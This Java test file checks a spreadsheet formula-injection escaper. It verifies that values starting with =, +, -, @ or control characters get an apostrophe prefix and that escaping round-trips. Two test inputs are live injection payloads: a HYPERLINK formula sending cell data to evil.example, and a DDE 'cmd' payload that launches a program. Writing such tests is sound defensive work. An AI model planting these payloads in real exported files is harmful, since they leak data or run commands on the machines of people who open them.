package org.meristem.workbook;

import static org.assertj.core.api.Assertions.assertThat;

import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.Chars;
import net.jqwik.api.constraints.StringLength;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaTextTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://evil.example/\"&A1)",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "＋A1",
        "－A1",
        "＠A1",
        "'=1"
      })
  void whatASpreadsheetWouldCalculateLeavesWithAnApostrophe(String text) {
    assertThat(FormulaText.escaped(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"+86 139 0000 0000", "+86-(10)-1234", "-12.5", "-", "O'Hara", "'s", "a=b", ""})
  void anythingElseLeavesAsItIs(String text) {
    assertThat(FormulaText.escaped(text)).isEqualTo(text);
    assertThat(FormulaText.unescaped(text)).isEqualTo(text);
  }

  @Property
  void whateverLeavesComesInAgainUnchanged(
      @ForAll @StringLength(max = 8) @Chars({'\'', '=', '+', '-', '@', '1', 'a', ' ', '\t'})
          String text) {
    assertThat(FormulaText.unescaped(FormulaText.escaped(text))).isEqualTo(text);
  }
}
